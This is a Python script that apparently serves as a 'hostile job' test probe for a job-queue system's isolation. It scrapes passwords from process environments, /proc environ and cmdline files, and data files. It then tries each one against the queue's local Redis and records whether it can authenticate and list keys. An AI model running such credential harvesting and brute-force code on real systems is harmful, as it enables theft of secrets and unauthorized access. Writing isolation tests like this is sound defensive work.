"""A hostile job goes for the queue's Redis at 127.0.0.1:$SNOOP_REDIS_PORT: it gathers every
password it can find (its environment, every readable /proc/*/environ and cmdline, every
readable file under $SNOOP_DATA_DIR: redis:// URLs and bare values) and, with none and with
each, asks for PING and the queue's keys. It reports the replies as JSON in its checkpoint
directory."""

import json
import os
import re
import socket
from pathlib import Path

port = int(os.environ["SNOOP_REDIS_PORT"])
blobs: list[bytes] = [b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items())]
for proc in Path("/proc").iterdir():
    if proc.name.isdigit():
        for name in ("environ", "cmdline"):
            try:
                blobs.append((proc / name).read_bytes())
            except OSError:
                pass
own = str(Path(os.environ["SNOOP_DATA_DIR"]) / "runs" / os.environ["LAUNCHBAY_JOB_ID"])
for root, _, files in os.walk(os.environ["SNOOP_DATA_DIR"]):
    for name in files if not root.startswith(own) else []:
        try:
            blobs.append(Path(root, name).read_bytes()[: 1 << 20])
        except OSError:
            pass
candidates: set[str] = set(os.environ.values())
for blob in blobs:
    for match in re.finditer(rb"rediss?://([^:@/\s\0]*):([^@/\s\0]+)@", blob):
        candidates.add(match.group(2).decode(errors="replace"))
    for match in re.finditer(rb"(?:PASSWORD|PASS|requirepass)[=\s\0]+([^\s\0]+)", blob):
        candidates.add(match.group(1).decode(errors="replace"))


def command(sock: socket.socket, *words: str) -> str:
    parts = [f"*{len(words)}\r\n".encode()]
    for word in words:
        data = word.encode()
        parts.append(b"$%d\r\n%s\r\n" % (len(data), data))
    sock.sendall(b"".join(parts))
    return sock.recv(4096).decode(errors="replace").split("\r\n", 1)[0]


replies: list[dict[str, str]] = []
for password in [None, *sorted(c for c in candidates if 0 < len(c) <= 512)[:300]]:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        auth = command(sock, "AUTH", password) if password is not None else ""
        replies.append(
            {
                "auth": auth,
                "ping": command(sock, "PING"),
                "keys": command(sock, "KEYS", "rq:*"),
                "get": command(sock, "GET", "rq:workers"),
            }
        )
out = Path(os.environ["LAUNCHBAY_OUTPUT_DIR"]) / "redis-probe.json"
out.write_text(json.dumps({"uid": os.getuid(), "tried": len(replies), "replies": replies}))
